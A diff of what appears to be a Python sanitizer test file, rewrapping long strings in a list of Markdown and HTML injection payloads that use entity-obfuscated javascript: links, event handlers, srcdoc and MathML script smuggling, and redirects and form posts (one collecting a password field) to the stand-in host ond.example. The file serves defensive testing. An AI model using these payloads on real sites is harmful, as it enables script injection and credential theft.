@@ -1,7 +1,7 @@
 """A stranger's worst: texts that try to be more than text, and a region where every field has one of them.
 
-Each payload that could run calls ``alert``; what could fetch, asks ``ond.example``. The region is made from the test region's
-records by asking the model which fields take a payload, so that a new field is tried without a line here.
+Each payload that could run calls ``alert``; what could fetch, asks ``ond.example``. The region is made from the test
+region's records by asking the model which fields take a payload, so that a new field is tried without a line here.
 """
 
 import json
@@ -94,7 +94,8 @@ MARKDOWN = (
     "[x]: javascript:alert(1)\n\n[x]",
     "<a href='&#106;avascript:alert(1)'>x</a>",
     "<a href=' javascript:alert(1)'>x</a>",
-    "<a href='java&#10;script:alert(1)'>x</a><a href='java&Tab;script&colon;alert(1)'>y</a><a href='&#1;javascript:alert(1)'>z</a>",
+    "<a href='java&#10;script:alert(1)'>x</a><a href='java&Tab;script&colon;alert(1)'>y</a><a "
+    "href='&#1;javascript:alert(1)'>z</a>",
     "<ftp://ond.example/>",
     "<a href=https://a.example target=_blank rel=opener onclick=alert(1)>x</a>",
     "<p onmouseover=alert(1) style='position:fixed' class=kort id=innhold>x</p>",
@@ -105,7 +106,8 @@ MARKDOWN = (
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
     "<object data=https://ond.example/></object><embed src=https://ond.example/>",
     "<form action=https://ond.example/><input name=passord><button formaction='javascript:alert(1)'>ok</button></form>",
-    "<base href=https://ond.example/><meta http-equiv=refresh content='0;url=https://ond.example'><link rel=stylesheet href=//ond.example>",
+    "<base href=https://ond.example/><meta http-equiv=refresh content='0;url=https://ond.example'><link "
+    "rel=stylesheet href=//ond.example>",
     "<style>body{display:none}</style>",
     "<video poster=https://ond.example/ src=x onerror=alert(1)><source onerror=alert(1)></video>",
     "<details open ontoggle=alert(1)><summary>x</summary></details>",
@@ -125,11 +127,14 @@ MARKDOWN = (
     "Tekst {: onclick=alert(1) style=position:fixed;inset:0 }\n{: #innhold .topp }",
     "# Stor\n{: onclick=alert(1) }\n\nOnd\n===",
     "<div markdown=1 onclick=alert(1)>*x*</div>",
-    "<a href='&NewLine;javascript&colon;alert(1)'>x</a><a href='https:&#x2f;&#x2f;ond.example' ping=//ond.example>y</a>",
+    "<a href='&NewLine;javascript&colon;alert(1)'>x</a><a href='https:&#x2f;&#x2f;ond.example' "
+    "ping=//ond.example>y</a>",
     "<svg><style>*{fill:url(//ond.example)}</style><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
-    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><input type=image src=//ond.example/x.png>",
+    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><input type=image "
+    "src=//ond.example/x.png>",
     "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
-    "<img src='//ond.example/x.png' srcset='//ond.example/y.png 2x'><picture><source srcset=//ond.example/z.png></picture>",
+    "<img src='//ond.example/x.png' srcset='//ond.example/y.png 2x'><picture><source "
+    "srcset=//ond.example/z.png></picture>",
     "<span lang='\" onmouseover=\"alert(1)'>x</span><i lang=x style='all:initial;position:fixed;inset:0'>y</i>",
     "> > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > dypt",
     "\n".join("  " * n + "- dypt" for n in range(40)),
